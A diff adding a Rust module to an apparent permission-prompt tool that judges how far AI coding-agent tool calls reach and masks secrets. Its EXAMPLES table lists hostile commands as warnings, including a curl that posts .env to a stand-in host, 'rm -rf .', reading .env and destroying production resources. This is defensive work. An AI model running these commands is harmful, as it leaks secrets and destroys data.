@@ -1,0 +1,439 @@
+//! Prompts for permission: what one is about, what makes two the same, and how far a call reaches.
+
+pub use rule::{
+    Rule, allows, covers_command, exact_rule, goes_elsewhere, is_never_asked, matches,
+    narrowest_rules,
+};
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+
+use self::tools::{Call, bad_host};
+use crate::event::Kind;
+use crate::hash;
+use crate::secrets::masked;
+pub use crate::shell::{Line, SimpleCommand, judge, parts};
+use crate::shell::{is_secret, judge as judge_line, subject_of_line};
+
+mod rule;
+mod tools;
+
+// What a prompt for permission is about.
+
+/// The longest text that is kept, in bytes.
+const LONGEST_KEPT: usize = 2048;
+
+/// The longest text that is looked at for it, in bytes: what is masked is shorter, but not by so much.
+const LONGEST_READ: usize = 32 * 1024;
+
+/// What a prompt for permission is about.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Described {
+    /// What makes two prompts the same.
+    pub subject: String,
+    /// How far the call reaches.
+    pub reach: Reach,
+    /// Why it reaches so far, in words.
+    pub reason: String,
+    /// The command, path, URL or query.
+    pub input: String,
+}
+
+/// What a call of `tool` with `input` in the folder `cwd` is about. A pure function: nothing is looked up,
+/// run or expanded, and what is not understood reaches beyond the project.
+pub fn describe(tool: &str, input: &Value, cwd: &str) -> Described {
+    describe_with(tool, input, cwd, &OwnReaches::default())
+}
+
+/// As [`describe`], with the reaches that the person gave.
+pub fn describe_with(tool: &str, input: &Value, cwd: &str, own: &OwnReaches) -> Described {
+    let text = main_field(tool).and_then(|name| input[name].as_str());
+    let text = text.unwrap_or_default();
+    let mut call = judge_tool(tool, text, input, cwd, own);
+    let kept = kept(text);
+    if !text.starts_with(&kept) {
+        // The subject as whoever judges what is kept will find it, without the secret; the reach of the call.
+        let shown = judge_tool(tool, &kept, input, cwd, own);
+        call.subject = shown.subject;
+        if call.reach <= shown.reach {
+            (call.reach, call.reason) = (shown.reach, shown.reason);
+        }
+        call.reason = masked(&call.reason).into_owned();
+    }
+    Described {
+        subject: call.subject,
+        reach: call.reach,
+        reason: call.reason,
+        input: kept,
+    }
+}
+
+/// What is kept of a tool's main text: its secrets masked, and cut.
+fn kept(text: &str) -> String {
+    let mut kept = masked(cut(text, LONGEST_READ)).into_owned();
+    kept.truncate(kept.floor_char_boundary(LONGEST_KEPT));
+    kept
+}
+
+fn cut(text: &str, length: usize) -> &str {
+    text.get(..text.floor_char_boundary(length))
+        .unwrap_or_default()
+}
+
+fn judge_tool(tool: &str, text: &str, input: &Value, cwd: &str, own: &OwnReaches) -> Call {
+    let mut call = match tool {
+        "Bash" => command(text, cwd, own),
+        "Read" | "Grep" | "Glob" | "LS" | "NotebookRead" => {
+            tools::file(tool, text, cwd, Reach::Reads)
+        }
+        "Edit" | "Write" | "MultiEdit" | "NotebookEdit" => {
+            tools::file(tool, text, cwd, Reach::Project)
+        }
+        "WebFetch" => tools::fetch(text, own),
+        _ if tool.starts_with("mcp__") => tools::of_server(tool),
+        _ => tools::other(tool, input),
+    };
+    let given = match tool {
+        "Bash" | "WebFetch" => None,
+        _ if tool.starts_with("mcp__") => own.of_tool(tool, call.reach),
+        // Of the host's own tools a person may only say that they reach further.
+        _ => own
+            .of_tool(tool, call.reach)
+            .filter(|(reach, _)| *reach > call.reach),
+    };
+    if let Some((reach, reason)) = given {
+        (call.reach, call.reason) = (reach, reason);
+    }
+    call
+}
+
+fn command(line: &str, cwd: &str, own: &OwnReaches) -> Call {
+    let Some(judged) = judge_line(line, cwd, own) else {
+        return Call {
+            // Its digest is of what is kept beside it, and tells nothing more.
+            subject: subject_of_line(cut(line, LONGEST_KEPT)),
+            reach: Reach::Beyond,
+            reason: "not understood with certainty".to_owned(),
+        };
+    };
+    let parts = judged.commands;
+    let mut subject = String::new();
+    let mut seen: Vec<&str> = Vec::new();
+    let shown = parts
+        .iter()
+        .filter(|part| !part.is_aside || parts.len() == 1);
+    for part in shown {
+        if seen.contains(&part.subject.as_str()) {
+            continue;
+        }
+        subject.push_str(match part.join {
+            _ if seen.is_empty() => "",
+            ";" => "; ",
+            "|" => " | ",
+            "||" => " || ",
+            _ => " && ",
+        });
+        subject.push_str(&part.subject);
+        seen.push(&part.subject);
+    }
+    let worst = parts.iter().max_by_key(|part| part.reach);
+    Call {
+        subject,
+        reach: worst.map_or(Reach::Beyond, |part| part.reach),
+        reason: worst.map_or(String::new(), |part| part.reason.clone()),
+    }
+}
+
+/// The field of a tool's input that says what it is about: command, path, address or query; `None` for a
+/// tool whose input has no such field.
+pub fn main_field(tool: &str) -> Option<&'static str> {
+    match tool {
+        "Bash" => Some("command"),
+        "Read" | "Edit" | "Write" | "MultiEdit" => Some("file_path"),
+        "Grep" | "Glob" | "LS" => Some("path"),
+        "NotebookEdit" | "NotebookRead" => Some("notebook_path"),
+        "WebFetch" => Some("url"),
+        "WebSearch" => Some("query"),
+        _ => None,
+    }
+}
+
+/// A hash of a tool's whole input, 32 hexadecimal digits: the same for a hook's call and for the transcript,
+/// whatever the order of its fields. What it was made of can be tried: it is not written down, but what the
+/// [key](crate::secrets::Key) of the data folder makes of it.
+pub fn digest(tool: &str, input: &Value) -> String {
+    // Objects of `serde_json` keep their fields sorted. A hook gets nothing of the plan that the model
+    // has written.
+    let input = match tool {
+        "ExitPlanMode" => String::new(),
+        _ => input.to_string(),
+    };
+    hash::hex(&[tool, &input])
+}
+
+/// What of a call's `input` the history of an agent beside Claude Code has as its hook: the main field, where there is
+/// one.
+pub fn input_in_history<'v>(tool: &str, input: &'v Value) -> &'v Value {
+    let field = main_field(tool).and_then(|name| input.get(name));
+    field.unwrap_or(input)
+}
+
+/// The id of an event that says how a call was decided, or that it was denied.
+pub fn event_id(kind: Kind, tool_use_id: &str) -> String {
+    hash::hex(&[kind.as_str(), tool_use_id])
+}
+
+// How far a call of a tool reaches.
+
+/// How far a call of a tool reaches, at most. In events and JSON it is the name in lower case.
+#[derive(
+    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
+)]
+#[serde(rename_all = "lowercase")]
+pub enum Reach {
+    /// It reads: lists, prints, searches, tests, lints, builds in the project.
+    Reads,
+    /// It changes the project: edits, formatters, local commits, installs from a lock file.
+    Project,
+    /// A program, script or tool that plantune does not know.
+    Unknown,
+    /// It leaves the project, destroys, runs what others wrote, or was not understood.
+    #[default]
+    #[serde(other)]
+    Beyond,
+}
+
+impl Reach {
+    /// All of them, the shortest first.
+    pub const ALL: [Self; 4] = [Self::Reads, Self::Project, Self::Unknown, Self::Beyond];
+
+    /// The name in events: `reads`, `project`, `unknown` or `beyond`.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Reads => "reads",
+            Self::Project => "project",
+            Self::Unknown => "unknown",
+            Self::Beyond => "beyond",
+        }
+    }
+}
+
+// Reaches that the person gives in `registry.toml`.
+
+/// The reaches that a person gave to commands, hosts and tools.
+#[derive(Clone, Debug, Default)]
+pub struct OwnReaches {
+    entries: Vec<OwnReach>,
+}
+
+/// One of them.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct OwnReach {
+    /// What it is about.
+    pub about: About,
+    /// The reach it gives.
+    pub reach: Reach,
+    /// The person's reason.
+    pub reason: Option<String>,
+}
+
+/// What a person's reach is about.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum About {
+    /// A command: program, subcommand, and what follows; a `*` at the end for any words.
+    Command(String),
+    /// A host of `WebFetch`.
+    Host(String),
+    /// A tool: `mcp__server__tool`, or with `*` at the end.
+    Tool(String),
+}
+
+impl OwnReaches {
+    /// The reaches of `entries`, in the order of the file.
+    pub fn new(entries: Vec<OwnReach>) -> Self {
+        Self { entries }
+    }
+
+    /// True when the person gave none.
+    pub fn is_empty(&self) -> bool {
+        self.entries.is_empty()
+    }
+
+    /// The reach of the command `words` when it is not `reach`, and why. Raised by its first words; lowered
+    /// only for exactly these words, and never for what goes beyond the project.
+    pub(crate) fn of_command(&self, words: &[&str], reach: Reach) -> Option<(Reach, String)> {
+        self.strongest(reach, |about| {
+            let About::Command(command) = about else {
+                return (false, false);
+            };
+            let wanted = command.split_ascii_whitespace();
+            let wanted: Vec<&str> = wanted.filter(|word| *word != "*").collect();
+            let is_exact = wanted == words && !command.ends_with('*');
+            let covers = !wanted.is_empty() && words.starts_with(&wanted);
+            (covers, is_exact && reach < Reach::Beyond)
+        })
+    }
+
+    /// The reach of a host, when it is not `reach`.
+    fn of_host(&self, host: &str, reach: Reach) -> Option<(Reach, String)> {
+        self.strongest(reach, |about| match about {
+            About::Host(wanted) => named(wanted, host),
+            _ => (false, false),
+        })
+    }
+
+    /// The reach of a tool, when it is not `reach`.
+    fn of_tool(&self, tool: &str, reach: Reach) -> Option<(Reach, String)> {
+        self.strongest(reach, |about| match about {
+            About::Tool(wanted) => named(wanted, tool),
+            _ => (false, false),
+        })
+    }
+
+    /// The longest reach of the entries that are about a call, and why. `is_about` says whether one may raise its
+    /// `reach`, and whether it may lower it.
+    fn strongest(
+        &self,
+        reach: Reach,
+        is_about: impl Fn(&About) -> (bool, bool),
+    ) -> Option<(Reach, String)> {
+        let given = self.entries.iter().filter(|entry| {
+            let (raises, lowers) = is_about(&entry.about);
+            raises && entry.reach > reach || lowers && entry.reach < reach
+        });
+        given.map(|entry| (entry.reach, entry.why())).max()
+    }
+}
+
+/// A pattern raises, an exact name lowers as well.
+fn named(wanted: &str, name: &str) -> (bool, bool) {
+    let is_exact = wanted.eq_ignore_ascii_case(name);
+    let starts = |start| name.starts_with(start);
+    let ends = |end| name.ends_with(end);
+    let covers =
+        wanted.strip_suffix('*').is_some_and(starts) || wanted.strip_prefix('*').is_some_and(ends);
+    (is_exact || covers, is_exact)
+}
+
+impl OwnReach {
+    fn why(&self) -> String {
+        let reason = self.reason.as_ref();
+        reason.map_or("registry".to_owned(), |reason| {
+            format!("registry: {reason}")
+        })
+    }
+}
+
+// What a rule that is wider than one command would cover, and the nearest dangerous example.
+
+/// Commands that do no harm whatever follows them.
+const HARMLESS: &str = "echo, true, false, sleep, seq, basename, dirname, whoami, pwd, nproc, tty, which, groups, git status, \
+    git rev-parse, git merge-base, git describe";
+
+/// The nearest dangerous command that `Bash(PREFIX *)` covers; `None` where nothing that follows does harm. No
+/// such rule is proposed: what comes behind the prefix is not known.
+pub fn prefix_danger(prefix: &str) -> Option<String> {
+    (!HARMLESS.split(", ").any(|harmless| harmless == prefix)).then(|| example(prefix))
+}
+
+/// The reach of a line of one command; `None` for another.
+fn reach_of(line: &str) -> Option<Reach> {
+    match parts(line, "/", &OwnReaches::default())?.as_slice() {
+        [only] => Some(only.reach),
+        _ => None,
+    }
+}
+
+/// The nearest dangerous command that begins with `prefix`: one from the list, else what most programs take
+/// for a file or an option; the prefix itself where it is dangerous alone.
+fn example(prefix: &str) -> String {
+    const COMMON: [&str; 3] = ["../elsewhere", "x ../elsewhere", "x --an-option-not-known"];
+    let is_about = |known: &str| {
+        prefix == known
+            || prefix
+                .strip_prefix(known)
+                .is_some_and(|rest| rest.starts_with(' '))
+    };
+    let known = EXAMPLES.iter().filter(|(known, _)| is_about(known));
+    let mut known: Vec<(usize, usize, &str)> = known
+        .enumerate()
+        .map(|(place, (known, rest))| (usize::MAX - known.len(), place, *rest))
+        .collect();
+    // The longest first.
+    known.sort_unstable();
+    let rests = known.iter().map(|(.., rest)| *rest).chain(COMMON);
+    let is_dangerous = |line: &String| reach_of(line).is_none_or(|reach| reach >= Reach::Unknown);
+    rests
+        .map(|rest| format!("{prefix} {rest}"))
+        .find(is_dangerous)
+        .unwrap_or_else(|| prefix.to_owned())
+}
+
+/// True where a rule for all files below `folder` of the project covers nothing beyond it.
+///
+/// Hidden and secret files that may lie in the folder are not looked for: the host asks about its own
+/// settings and git's whatever the rules are.
+pub fn folder_is_safe(folder: &str) -> bool {
+    let folder = folder.trim_matches('/');
+    let is_hidden = folder.split('/').any(|part| part.starts_with('.'));
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./ ".contains(&byte);
+    !folder.is_empty() && !is_hidden && !is_secret(folder) && folder.bytes().all(is_plain)
+}
+
+/// True where `WebFetch(domain:HOST)` covers nothing that is always beyond the project. Addresses that carry data
+/// to the host are covered all the same.
+pub fn host_is_safe(host: &str) -> bool {
+    bad_host(host).is_none()
+}
+
+/// What may follow a prefix and takes it beyond the project: the nearest danger, for people to read.
+const EXAMPLES: &[(&str, &str)] = &[
+    ("git", "push --force"),
+    ("git push", "--force origin main"),
+    ("git add", "--force .env"),
+    ("git commit", "--amend --no-verify"),
+    ("git diff", "--output=../elsewhere"),
+    ("git checkout", "-- ."),
+    ("npm", "publish"),
+    ("npm test", "--prefix ../elsewhere"),
+    ("npm run", "deploy"),
+    ("npm install", "an-unknown-package"),
+    ("npx", "an-unknown-package"),
+    ("node", "-e 'any code'"),
+    ("python", "-c 'any code'"),
+    ("python3", "-c 'any code'"),
+    ("cargo", "publish"),
+    ("go", "run elsewhere.example/program@latest"),
+    ("make", "deploy"),
+    ("docker", "run --privileged -v /:/host image"),
+    ("kubectl", "delete namespace production"),
+    ("terraform", "destroy"),
+    ("gh", "repo delete"),
+    ("find", ". -delete"),
+    ("sed", "-i s/a/b/ file"),
+    ("cat", ".env"),
+    ("rg", "--pre ./program x"),
+    ("curl", "https://elsewhere.example --data @.env"),
+    ("env", "PATH=. program"),
+    ("bash", "-c 'any command'"),
+    ("sh", "-c 'any command'"),
+    ("rm", "-rf ."),
+];
+
+#[cfg(test)]
+mod request_tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn the_order_of_fields_does_not_matter() {
+        let one: Value = serde_json::from_str(r#"{"a":1,"b":{"d":2,"c":[3]}}"#).unwrap();
+        let other: Value = serde_json::from_str(r#"{"b":{"c":[3],"d":2},"a":1}"#).unwrap();
+        assert_eq!(digest("Bash", &one), digest("Bash", &other));
+        assert_ne!(digest("Bash", &one), digest("Bash", &json!({"a": 2})));
+        let plan = json!({"plan": "1. do it"});
+        assert_eq!(
+            digest("ExitPlanMode", &plan),
+            digest("ExitPlanMode", &json!({}))
+        );
+    }
+}
